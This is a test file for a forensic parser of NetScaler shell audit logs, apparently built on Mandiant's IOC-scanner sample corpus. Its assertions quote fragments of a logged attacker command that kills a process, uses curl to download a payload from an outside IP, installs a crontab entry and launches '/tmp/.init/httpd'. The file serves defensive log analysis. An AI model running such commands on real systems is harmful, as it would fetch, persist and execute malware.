import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { parseBuffer } from './parse-text.js';
import { closingQuoteIndex, shellAuditParser } from './shell-audit-parser.js';
import { corpus, expectAllAccounted } from '../../test/support/corpora.js';

const CORPUS = corpus('netscaler', 'mandiant-ioc-scanner', 'tests', 'shell-history');
// The Mandiant sample dates from January 2020; anchor year inference there.
const REFERENCE = Date.UTC(2020, 0, 25);

const parse = (input: Buffer | string, options: Record<string, unknown> = {}) =>
  parseBuffer(shellAuditParser, input, { referenceTime: REFERENCE, ...options });

const read = (rel: string): Buffer => {
  const bytes = readFileSync(join(CORPUS, rel));
  return rel.endsWith('.gz') ? gunzipSync(bytes) : bytes;
};

describe('shell audit: Mandiant corpus', () => {
  const files = ['bash_log/var/log/bash.log', 'bash_log_gz/var/log/bash.log.0.gz', 'bsd/var/log/bash.log', 'notice_log/var/log/notice.log', 'sh_log/var/log/sh.log'];

  it.each(files)('accounts for every line of %s (nothing fails; blank lines are skipped)', (rel) => {
    const input = read(rel);
    const result = parse(input);
    expectAllAccounted(input, result);
    expect(result.failures).toEqual([]);
    for (const e of result.events) expect(['shell_command', 'return_code']).toContain(e.ecs['event.action']);
  });

  it('joins the five-line shell_command into one event (bash.log, hour 24)', () => {
    const input = read('bash_log/var/log/bash.log');
    const { events } = parse(input);
    expect(events).toHaveLength(21);
    const multi = events[20]!;
    expect(multi.line).toBe(21);
    const physical = input.toString('latin1').split('\n');
    expect(multi.raw.toString('latin1')).toBe(physical.slice(20, 25).join('\n'));
    expect(multi.message).toBe(multi.raw.toString('utf8'));
    expect(multi.ecs).toMatchObject({
      'event.action': 'shell_command',
      'host.name': 'ns',
      'process.name': 'bash',
      'process.pid': 1297,
      'user.name': 'root',
      'process.tty': '/dev/pts/0',
    });
    const command = multi.ecs['process.command_line']!;
    expect(command.startsWith('\npkill -9 netscalerd; rm /var/tmp/netscalerd;')).toBe(true);
    expect(command).toContain('curl -k\nhttps://95.179.163.186/wp-content/uploads/2018/09/64d4c2d3ee56af4f4ca8171556d50faa -o\n');
    expect(command.endsWith("crontab -; /tmp/.init/httpd &")).toBe(true);
    expect(multi.fields.unterminated).toBeUndefined();
    // `Jan 19 24:26:52` is 00:26:52 on 20 January.
    expect(multi.timestamp).toBe(Date.parse('2020-01-20T00:26:52Z'));
    expect(multi.timeQuality).toBe('hour-24');
  });

  it('reads the gzipped rotation the same way, year inferred', () => {
    const { events } = parse(read('bash_log_gz/var/log/bash.log.0.gz'));
    expect(events).toHaveLength(21);
    expect(events[0]!.timestamp).toBe(Date.parse('2020-01-19T23:23:56Z'));
    expect(events[0]!.timeQuality).toBe('year-inferred');
    expect(events[20]!.ecs['process.command_line']).toContain('/var/nstmp/.nscache/httpd');
  });

  it('reads (null) user/tty, return codes and unescaped inner quotes from notice.log', () => {
    const { events } = parse(read('notice_log/var/log/notice.log'));
    const [rc, empty, , compgen, payload] = events;
    expect(rc!.ecs).toMatchObject({ 'event.action': 'return_code', 'process.exit_code': 1 });
    expect(rc!.ecs['process.tty']).toBeUndefined();
    expect(rc!.fields.tty).toBe('(null)');
    expect(empty!.ecs['process.command_line']).toBe('');
    expect(compgen!.ecs['process.command_line']).toBe('compgen -G "/var/log/bash.log*"');
    expect(payload!.ecs['process.command_line']).toMatch(/^pkill -9 netscalerd;rm .* \| crontab -; \/tmp\/\.init\/httpd &"$/);
  });

  it('sh.log gives process.name sh', () => {
    const { events } = parse(read('sh_log/var/log/sh.log'));
    expect(new Set(events.map((e) => e.ecs['process.name']))).toEqual(new Set(['sh']));
  });
});

describe('shell audit: time', () => {
  const at = (time: string, options: Record<string, unknown> = {}) =>
    parse(`${time} <local7.notice> ns bash[1]: root on /dev/pts/0 shell_command="id"\n`, options).events[0]!;

  it('rolls the year forward from December to January', () => {
    const input = [
      'Dec 31 23:59:58 <local7.notice> ns bash[1]: root on /dev/pts/0 shell_command="a"',
      'Jan  1 00:00:02 <local7.notice> ns bash[1]: root on /dev/pts/0 shell_command="b"',
    ].join('\n');
    const { events } = parse(input, { referenceTime: Date.UTC(2021, 0, 3) });
    expect(events.map((e) => new Date(e.timestamp!).toISOString())).toEqual(['2020-12-31T23:59:58.000Z', '2021-01-01T00:00:02.000Z']);
    expect(events.every((e) => e.timeQuality === 'year-inferred')).toBe(true);
  });

  it('hour 24 on 31 December is 00:00 on 1 January of the next year', () => {
    const e = at('Dec 31 24:00:05', { referenceTime: Date.UTC(2021, 0, 3) });
    expect(e.timestamp).toBe(Date.parse('2021-01-01T00:00:05Z'));
    expect(e.timeQuality).toBe('hour-24');
  });

  it('applies options.timeZone, else UTC', () => {
    expect(at('Jan 19 23:40:14').timestamp).toBe(Date.parse('2020-01-19T23:40:14Z'));
    expect(at('Jan 19 23:40:14', { timeZone: 'Europe/Amsterdam' }).timestamp).toBe(Date.parse('2020-01-19T22:40:14Z'));
  });

  it('an impossible date is an event without time', () => {
    const e = at('Feb 30 10:00:00');
    expect(e.timestamp).toBeNull();
    expect(e.timeQuality).toBe('missing');
    expect(e.fields.syslog_time).toBe('Feb 30 10:00:00');
  });
});

describe('shell audit: quoting and multi-line records', () => {
  const head = 'Jan 19 23:40:14 <local7.notice> ns bash[1297]: root on /dev/pts/0 ';

  it('finds the closing quote: escaped quotes do not close', () => {
    expect(closingQuoteIndex('"')).toBe(0);
    expect(closingQuoteIndex('id" ')).toBe(2);
    expect(closingQuoteIndex('echo \\"')).toBe(-1);
    expect(closingQuoteIndex('echo \\\\"')).toBe(7);
    expect(closingQuoteIndex('')).toBe(-1);
  });

  it('keeps escaped inner quotes as logged (reference §2.1 form)', () => {
    const { events } = parse(`${head}shell_command="compgen -G \\"/var/log/bash.log*\\""\n`);
    expect(events[0]!.ecs['process.command_line']).toBe('compgen -G \\"/var/log/bash.log*\\"');
  });

  it('a record whose quote never closes ends at the next syslog line, flagged', () => {
    const input = [`${head}shell_command="echo start`, 'more text', `${head}shell_command="id"`].join('\n');
    const { events, failures } = parse(input);
    expect(failures).toEqual([]);
    expect(events).toHaveLength(2);
    expect(events[0]!.fields).toMatchObject({ unterminated: 'true', unterminated_reason: 'next-header' });
    expect(events[0]!.ecs['process.command_line']).toBe('echo start\nmore text');
    expect(events[1]!.ecs['process.command_line']).toBe('id');
  });

  it('an escaped quote at a line end does not close the record', () => {
    const input = `${head}shell_command="echo \\"\nstill inside"\n`;
    const { events } = parse(input);
    expect(events).toHaveLength(1);
    expect(events[0]!.ecs['process.command_line']).toBe('echo \\"\nstill inside');
  });

  it('at end of file and at 200 lines the record is emitted as unterminated', () => {
    const eof = parse(`${head}shell_command="cat <<EOF\nline`);
    expect(eof.events[0]!.fields.unterminated_reason).toBe('end-of-file');
    const lines = [`${head}shell_command="x`];
    for (let i = 0; i < 300; i += 1) lines.push(`filler ${i}`);
    const input = Buffer.from(lines.join('\n') + '\n');
    const result = parse(input);
    expectAllAccounted(input, result);
    expect(result.events).toHaveLength(1);
    expect(result.events[0]!.fields.unterminated_reason).toBe('size-limit');
    expect(result.events[0]!.raw.toString().split('\n')).toHaveLength(200);
    expect(result.failures).toHaveLength(101);
    expect(result.failures[0]!.reason).toMatch(/^no BSD syslog time/);
  });

  it('caps a record at 64 KiB', () => {
    const big = 'A'.repeat(10_000);
    const lines = [`${head}shell_command="x`];
    for (let i = 0; i < 20; i += 1) lines.push(big);
    const result = parse(lines.join('\n'));
    expect(result.events[0]!.fields.unterminated_reason).toBe('size-limit');
    expect(result.events[0]!.raw.length).toBeLessThan(80 * 1024);
  });

  it('keeps non-UTF-8 bytes across a multi-line record, never U+FFFD', () => {
    const input = Buffer.concat([Buffer.from(`${head}shell_command="echo `), Buffer.from([0xe9, 0xff]), Buffer.from('\nsecond"\n')]);
    const { events } = parse(input);
    expect(events[0]!.raw.equals(input.subarray(0, input.length - 1))).toBe(true);
    expect(events[0]!.message).not.toContain('\ufffd');
    expect(events[0]!.ecs['process.command_line']).toBe('echo \u00e9\u00ff\nsecond');
  });
  it('a record mixing a UTF-8 line and a Latin-1 line keeps every byte (decoded as one, Latin-1)', () => {
    const first = Buffer.from(`${head}shell_command="echo café`, 'utf8');
    const second = Buffer.from([0x6e, 0x61, 0xef, 0x76, 0x65, 0x22]); // `na\xefve"` in Latin-1
    const { events } = parse(Buffer.concat([first, Buffer.from('\n'), second]));
    expect(events).toHaveLength(1);
    expect(events[0]!.raw.equals(Buffer.concat([first, Buffer.from('\n'), second]))).toBe(true);
    expect(events[0]!.message).not.toContain('\ufffd');
    expect(Buffer.from(events[0]!.message, 'latin1').equals(events[0]!.raw)).toBe(true);
  });
});

describe('shell audit: other notice.log lines and garbage', () => {
  it('other appliance lines are `syslog` events; newsyslog is `log_rotation`', () => {
    const input = [
      'Jan 19 23:00:00 <local7.notice> ns nsnetsvc[812]: started the service',
      'Jan 19 23:00:06 ns newsyslog[14448]: logfile turned over due to size>100K',
      'Jan 19 23:00:07 ns last message repeated 3 times',
      'Jan 19 23:00:08 <local7.notice> ns bash[1]: root on /dev/pts/0 something else',
      'random garbage',
      '\u0000\u0001binary',
    ].join('\n');
    const { events, failures } = parse(input);
    expect(events.map((e) => e.ecs['event.action'])).toEqual(['syslog', 'log_rotation', 'syslog', 'syslog']);
    expect(events[0]!.fields.message).toBe('started the service');
    expect(events[1]!.fields.rotation_reason).toBe('size>100K');
    expect(events[2]!.fields.message).toBe('last message repeated 3 times');
    expect(failures.map((f) => f.line)).toEqual([5, 6]);
  });

  it('never throws on random bytes', () => {
    let seed = 7;
    const random = () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff);
    const pieces = ['Jan 19 23:40:14 ', '<local7.notice> ', 'ns bash[1]: ', 'root on (null) ', 'shell_command="', '"', '\\', '\n', '\xff'];
    const parts: string[] = [];
    for (let i = 0; i < 20_000; i += 1) parts.push(random() < 0.6 ? pieces[Math.floor(random() * pieces.length)]! : String.fromCharCode(Math.floor(random() * 256)));
    const input = Buffer.from(parts.join(''), 'latin1');
    expectAllAccounted(input, parse(input));
  });

  // Speed is measured in bench/ingest.bench.ts, never asserted here.
  it('parses 100,000 repeated lines into 100,000 events', () => {
    const line = 'Jan 19 23:25:04 <local7.notice> ns sh[1173]: root on (null) shell_command="kill -0 $pid >/dev/null 2>&1; if [ $? -ne 0 ]; then kill -9 $PROF_PIDS; fi"\n';
    const input = Buffer.from(line.repeat(100_000));
    expect(parse(input).events).toHaveLength(100_000);
  });
});
